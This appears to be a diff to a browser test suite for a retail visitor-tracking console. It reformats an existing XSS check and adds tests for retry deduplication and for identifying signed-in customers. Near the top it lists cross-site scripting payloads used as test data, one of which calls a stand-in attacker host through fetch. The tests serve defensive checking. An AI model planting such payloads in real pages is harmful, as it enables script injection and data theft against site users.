@@ -19,7 +19,7 @@ from tests.web.browser import chromium, login_console
 pytestmark = pytest.mark.browser
 ASSOCIATE = DEMO_ACCOUNTS[0]
 XSS = [
-    '<img src=x onerror="window.__pwned=1;fetch(\'http://attacker.example/i\')">',
+    "<img src=x onerror=\"window.__pwned=1;fetch('http://attacker.example/i')\">",
     "<script>window.__pwned=2</script>",
     '"><svg onload="window.__pwned=3">',
 ]
@@ -83,8 +83,13 @@ def test_visitor_controlled_text_is_inert_in_the_console(
     page.on("request", lambda r: outside.append(r.url) if "attacker" in r.url else None)
     login_console(page, server.base_url, ASSOCIATE.email, ASSOCIATE.password)
     events = [
-        event("page_view", url="javascript:alert(1)//" + XSS[0], title=XSS[0], page_type="product",
-              referrer=XSS[2]),
+        event(
+            "page_view",
+            url="javascript:alert(1)//" + XSS[0],
+            title=XSS[0],
+            page_type="product",
+            referrer=XSS[2],
+        ),
         event("search", query=XSS[1]),
         event("product_view", product_id="P101", name=XSS[2], price=10),
         event("add_to_cart", product_id="P101", name=XSS[1], price=10, quantity=1),
@@ -108,3 +113,67 @@ def test_the_storefront_carries_exactly_one_widget_tag(demo: tuple[LiveServer, S
     server, site = demo
     html = httpx.get(server.base_url + "/shop").text
     assert html.count("/widget.js") == 1 and f'data-site="{site.key}"' in html
+
+
+def test_a_lost_answer_is_retried_and_stored_once(
+    demo: tuple[LiveServer, SiteInfo], browser: Any
+) -> None:
+    """The server stores a batch but its answer never reaches the widget: the widget retries,
+    and deduplication by client event id keeps every event exactly once."""
+    server, _ = demo
+    context = browser.new_context()
+    lost: list[str] = []
+
+    def lose_first_cart_answer(route: Any) -> None:
+        body = route.request.post_data or ""
+        if not lost and "add_to_cart" in body:
+            route.fetch()  # the server stores it ...
+            lost.append(body)
+            route.abort()  # ... but the widget sees a network failure
+        else:
+            route.continue_()
+
+    context.route("**/api/track", lose_first_cart_answer)
+    shopper = context.new_page()
+    shopper.goto(server.base_url + "/shop/p/P102")
+    product_name = shopper.locator("h1").first.inner_text().strip()
+    shopper.locator("#add-to-cart").click()
+    console = browser.new_context().new_page()
+    login_console(console, server.base_url, ASSOCIATE.email, ASSOCIATE.password)
+    tile = console.wait_for_selector(
+        f'.visitor:has-text("{product_name}")[data-bag]:not([data-bag="0"])', timeout=15_000
+    )
+    assert lost, "the widget never sent the cart"
+    visit_id = tile.get_attribute("data-visit-id")
+    # wait until the retry has certainly been answered: the widget's outbox is empty
+    deadline = time.monotonic() + 15
+    while shopper.evaluate("localStorage.getItem('salon_outbox')") is not None:
+        assert time.monotonic() < deadline, "the widget never got its batch acknowledged"
+        shopper.wait_for_timeout(100)
+    with httpx.Client(base_url=server.base_url) as client:
+        login = client.post(
+            "/api/auth/login", json={"email": ASSOCIATE.email, "password": ASSOCIATE.password}
+        )
+        assert login.status_code == 200
+        site_id = client.get("/api/auth/me").json()["sites"][0]["id"]
+        story = client.get(f"/api/sites/{site_id}/visits/{visit_id}").json()
+    assert [e["type"] for e in story["events"]].count("add_to_cart") == 1
+    assert story["cart"][0]["quantity"] == 1
+
+
+def test_a_signed_in_customer_is_identified_on_the_floor(
+    demo: tuple[LiveServer, SiteInfo], browser: Any
+) -> None:
+    server, _ = demo
+    shopper = browser.new_context().new_page()
+    shopper.goto(server.base_url + "/shop/account/signin?customer=C1001")
+    shopper.goto(server.base_url + "/shop/c/watches")
+    console = browser.new_context().new_page()
+    login_console(console, server.base_url, ASSOCIATE.email, ASSOCIATE.password)
+    tile = console.wait_for_selector(
+        '.visitor[data-identified="true"]:has-text("Isabelle Fontaine")', timeout=10_000
+    )
+    assert tile.get_attribute("data-ribbon") == "platinum"
+    tile.click()
+    console.wait_for_selector("#story .story-order", timeout=5_000)
+    assert console.locator("#story .story-order").count() >= 1
